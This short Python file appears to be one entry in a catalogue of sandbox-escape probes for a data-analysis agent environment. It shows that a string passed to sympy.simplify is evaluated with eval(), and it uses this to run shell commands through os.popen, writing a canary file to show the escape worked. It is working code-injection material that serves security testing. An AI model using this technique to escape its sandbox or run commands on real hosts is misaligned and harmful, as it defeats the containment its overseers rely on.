# Technique: sympy turns string arguments into expressions with eval() and a namespace that has the real
#            builtins, so any sympy function given a string runs arbitrary Python in the host
# Goal: d (run a shell command)
# Source: classic (sympify is eval, documented by sympy); sympy is in the data-agent profile
# Requires: sympy
import sympy

cmd = "id; echo SHELL-ESCAPE-$((6*7)); touch /tmp/canary/shell_ran"
print(sympy.simplify("__import__('os').popen('" + cmd + "').read()"))
